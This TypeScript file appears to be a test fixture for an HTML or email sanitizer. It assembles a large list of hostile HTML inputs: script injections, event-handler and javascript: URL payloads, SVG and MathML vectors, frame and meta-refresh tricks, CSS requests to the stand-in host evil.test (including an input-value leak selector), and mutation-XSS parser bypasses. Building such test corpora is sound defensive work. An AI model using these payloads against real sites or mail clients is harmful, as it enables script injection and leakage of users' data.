/** HTML that an attacker could send, by class. It tries to call `hit()` in the page around it, or to request `evil.test`. */
const evil = 'https://evil.test';
const action = 'top.hit&&top.hit()';
const ask = (name: string) => `${evil}/${name}`;

const scripts = [
  `<script>${action}</script>`,
  `<SCRIPT>${action}</SCRIPT>`,
  `<script src="${ask('s.js')}"></script>`,
  `<script type="module">import '${ask('m.js')}'</script>`,
  `<script/x>${action}</script>`,
  `<<script>${action}//<</script>`,
  `<script\n>${action}</script\n>`,
  `<scr<script>ipt>${action}</scr</script>ipt>`,
  `<noscript><p title="</noscript><script>${action}</script>">`,
  `<template><script>${action}</script></template>`,
  `<xmp><script>${action}</script></xmp>`,
  `<plaintext><script>${action}</script>`,
  `<script defer src="data:text/javascript,${action}"></script>`,
  `<script nomodule>${action}</script>`,
  `<script type="text/vbscript">${action}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${ask('spec')}"]}]}</script>`,
  `<script type="importmap">{"imports":{"a":"${ask('map.js')}"}}</script>`,
];

const events = [
  ...['onload', 'onerror', 'onclick', 'onmouseover', 'onmouseenter', 'onmousemove', 'onfocus', 'onblur'],
  ...['onanimationstart', 'onanimationend', 'ontransitionend', 'onpointerover', 'onpointerdown', 'onwheel'],
  ...['onbeforeinput', 'oninput', 'onchange', 'onsubmit', 'onreset', 'onselect', 'onscroll', 'onresize'],
  ...['ontoggle', 'onbeforetoggle', 'oncut', 'oncopy', 'onpaste', 'ondragstart', 'ondrop', 'onkeydown'],
  ...[
    'onpageshow',
    'onhashchange',
    'onmessage',
    'onunload',
    'onbeforeprint',
    'oncontentvisibilityautostatechange',
  ],
];
const handlers = events.flatMap((event) => [
  `<img src=x ${event}="${action}">`,
  `<body ${event}="${action}"><p tabindex=0 autofocus ${event}=${action}>a</p>`,
]);

const addresses = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\nscript:', 'java&#10;script:'],
  ...['&#106;avascript:', '&#x6a;avascript:', 'javascript&colon;', '\u0001javascript:', 'vbscript:'],
].map((scheme) => `<a href="${scheme}${action}" target="_self">press</a>`);
const links = [
  `<a href="data:text/html,<script>${action}</script>">press</a>`,
  `<a href="${ask('top')}" target="_top">press</a>`,
  `<a href="${ask('parent')}" target="_parent">press</a>`,
  `<a href="${ask('blank')}" target="_blank" rel="opener">press</a>`,
  `<a href="${ask('ping')}" ping="${ask('pinged')}">press</a>`,
  `<a href="//evil.test/relative">press</a>`,
  `<map name="m"><area shape="default" href="${ask('area')}"></map><img usemap="#m" width=99 height=99>`,
  `<a href="${ask('download')}" download>press</a>`,
];

const vectors = [
  `<svg onload="${action}">`,
  `<svg><script>${action}</script></svg>`,
  `<svg><script href="${ask('svg.js')}"/></svg>`,
  `<svg><a xlink:href="javascript:${action}"><text y=20>press</text></a></svg>`,
  `<svg><image href="${ask('svg.png')}"/></svg>`,
  `<svg><image xlink:href="${ask('svgx.png')}"/></svg>`,
  `<svg><use href="${ask('use.svg')}#a"/></svg>`,
  `<svg><feImage href="${ask('fe.png')}"/></svg>`,
  `<svg><animate onbegin="${action}" attributeName=x dur=1s>`,
  `<svg><set attributeName="onmouseover" to="${action}"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${action}"/><text y=20>press</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${action}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import '${ask('svg.css')}'</style></svg>`,
  `<svg><filter id=f><feImage xlink:href="${ask('f.png')}"/></filter></svg>`,
  `<math><maction actiontype="statusline#${ask('math')}" href="javascript:${action}">press</maction></math>`,
  `<math href="javascript:${action}"><mtext>press</mtext></math>`,
  `<math><annotation-xml encoding="text/html"><script>${action}</script></annotation-xml></math>`,
];

const frames = [
  `<iframe src="javascript:${action}"></iframe>`,
  `<iframe srcdoc="<script>${action}</script>"></iframe>`,
  `<iframe src="${ask('frame')}"></iframe>`,
  `<iframe src="data:text/html,<script>${action}</script>"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${action}</script>"></iframe>`,
  `<frameset><frame src="${ask('frameset')}"></frameset>`,
  `<object data="${ask('object')}"></object>`,
  `<object data="data:text/html,<script>${action}</script>"></object>`,
  `<embed src="${ask('embed.swf')}">`,
  `<embed src="data:text/html,<script>${action}</script>">`,
  `<applet code="${ask('a.class')}"></applet>`,
  `<fencedframe src="${ask('fenced')}"></fencedframe>`,
  `<portal src="${ask('portal')}"></portal>`,
];

const documents = [
  `<meta http-equiv="refresh" content="0;url=${ask('refresh')}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${action}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<base href="${evil}/"><img src="based.png">`,
  `<base target="_top"><a href="${ask('based')}">press</a>`,
  `<link rel="stylesheet" href="${ask('sheet.css')}">`,
  `<link rel="preload" as="image" href="${ask('preload.png')}">`,
  `<link rel="prefetch" href="${ask('prefetch')}">`,
  `<link rel="prerender" href="${ask('prerender')}">`,
  `<link rel="dns-prefetch" href="${evil}">`,
  `<link rel="preconnect" href="${evil}">`,
  `<link rel="modulepreload" href="${ask('preload.js')}">`,
  `<link rel="icon" href="${ask('icon.png')}">`,
  `<link rel="import" href="${ask('import.html')}">`,
  `<link rel="manifest" href="${ask('manifest.json')}">`,
  `<html manifest="${ask('cache')}">`,
  `</body></html><script>${action}</script>`,
  `</font></body><body onload="${action}">`,
  `</iframe><script>${action}</script>`,
];

const forms = [
  `<form action="${ask('form')}"><button autofocus>press</button></form>`,
  `<form id=f action="javascript:${action}"><input type=submit value=press></form>`,
  `<button form=f formaction="javascript:${action}">press</button>`,
  `<input type="image" src="${ask('input.png')}">`,
  `<input autofocus onfocus="${action}">`,
  `<select autofocus onfocus="${action}"></select>`,
  `<textarea autofocus onfocus="${action}"></textarea>`,
  `<keygen autofocus onfocus="${action}">`,
  `<isindex type=image src="${ask('isindex.png')}" onerror="${action}">`,
];

const pictures = [
  `<img src="${ask('i.png')}">`,
  `<img srcset="${ask('i2.png')} 2x, ${ask('i1.png')} 1x">`,
  `<img loading=lazy src="${ask('lazy.png')}">`,
  `<img src="//evil.test/relative.png">`,
  `<img src="http://evil.test/plain.png">`,
  `<img lowsrc="${ask('low.png')}" dynsrc="${ask('dyn.png')}">`,
  `<picture><source srcset="${ask('source.png')}"><img alt=a></picture>`,
  `<video poster="${ask('poster.png')}" src="${ask('v.mp4')}" autoplay onplay="${action}"></video>`,
  `<audio src="${ask('a.mp3')}" autoplay oncanplay="${action}"></audio>`,
  `<video><source src="${ask('source.mp4')}" onerror="${action}"></video>`,
  `<video><track default src="${ask('track.vtt')}"></video>`,
  `<table background="${ask('table.png')}"><tr><td background="${ask('cell.png')}">a</table>`,
  `<body background="${ask('body.png')}">`,
  `<bgsound src="${ask('b.wav')}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${action}'/>">`,
  `<image src="${ask('image.png')}" onerror="${action}">`,
];

const properties = [
  ...['background', 'background-image', 'list-style-image', 'border-image', 'border-image-source', 'cursor'],
  ...['content', 'mask', 'mask-image', '-webkit-mask-image', 'filter', 'clip-path', 'shape-outside', 'src'],
  ...['offset-path', 'behavior', '-moz-binding'],
];
const styles = [
  ...properties.map(
    (name) => `<p style="list-style:disc;display:list-item;${name}:url('${ask(`${name}.png`)}')">a</p>`,
  ),
  `<p style="background:image-set('${ask('set.png')}' 1x)">a</p>`,
  `<p style="background:-webkit-image-set(url(${ask('wset.png')}) 1x)">a</p>`,
  `<p style="background:u\\72l(${ask('escaped.png')})">a</p>`,
  `<p style="background:u/**/rl(${ask('comment.png')})">a</p>`,
  `<p style="width:expression(${action})">a</p>`,
  `<p style="--a:url(${ask('variable.png')});background:var(--a)">a</p>`,
  `<style>@import '${ask('import.css')}';</style>`,
  `<style>@import url(${ask('importUrl.css')}) screen;</style>`,
  `<style>@font-face{font-family:x;src:url(${ask('font.woff')})}p{font-family:x}</style><p>a</p>`,
  `<style>*{background:url(${ask('star.png')})!important}</style>`,
  `<style>html,body,#outside{display:none!important;color:rgb(1,2,3)!important}</style>`,
  `<style>:root{--_accent:red}.rk-root{color:red!important}</style>`,
  `<style>@namespace url(${ask('namespace')});</style>`,
  `<style>input[value^=a]{background:url(${ask('leak')})}</style><input value=a>`,
  `<style><!--</style><script>${action}</script>-->`,
  `<style>@media all{body{background:url(${ask('media.png')})}}</style>`,
  `<style>@keyframes a{from{background:url(${ask('frames.png')})}}*{animation:a 1s}</style>`,
  `<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">cover</div>`,
  `<p style="color:red;</p><script>${action}</script>">`,
];

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${action}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${action}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${action}>`,
  `<noembed><img title="</noembed><img src onerror=${action}>"></noembed>`,
  `<textarea><img title="</textarea><img src onerror=${action}>">`,
  `<title><img title="</title><img src onerror=${action}>">`,
  `<noframes><img title="</noframes><img src onerror=${action}>">`,
  `<select><template><img src onerror=${action}></template></select>`,
  `<table><td><svg><desc><td><img src onerror=${action}>`,
  `<svg><![CDATA[><img src onerror=${action}>]]></svg>`,
  `<!--><img src onerror=${action}>-->`,
  `<!--!><img src onerror=${action}>--!>`,
  `<![if IE]><script>${action}</script><![endif]>`,
  `<?xml-stylesheet href="${ask('xml.css')}"?><p>a`,
  `<p title='"><img src onerror=${action}>'>a`,
  `<a href="x\`"title="\`onmouseover=${action}">press</a>`,
  `<img alt="\`\`onerror=${action}" src=x>`,
  `<div><template shadowrootmode="open"><script>${action}</script><img src="${ask('shadow.png')}"></template></div>`,
  `<x-a onclick="${action}" autofocus tabindex=0 onfocus="${action}">press</x-a>`,
  `<details open ontoggle="${action}"><summary>press</summary></details>`,
  `<marquee onstart="${action}">a</marquee>`,
  `<dialog open onclose="${action}"><form method=dialog><button>press</button></form></dialog>`,
  `<button popovertarget=p onclick="${action}">press</button><div id=p popover onbeforetoggle="${action}">a</div>`,
  '+ADw-script+AD4-top.hit()+ADw-/script+AD4-',
  `\u202e<img src=x onerror=${action}>`,
  `<img src=x onerror\u000b=${action}>`,
  `<img/src=x/onerror=${action}>`,
  `<img src=x:x onerror\n=\n${action}>`,
  `<form name="body"><img name="cookie"></form><a id="defaultView" name="location">`,
  `<img name=getElementById><form id=documentElement></form>`,
  `${'<div>'.repeat(3000)}<script>${action}</script>`,
];

/** Without duplicates. */
export const hostileMail: readonly string[] = [
  ...new Set([
    ...[...scripts, ...handlers, ...addresses, ...links, ...vectors, ...frames],
    ...[...documents, ...forms, ...pictures, ...styles, ...mutations],
  ]),
];
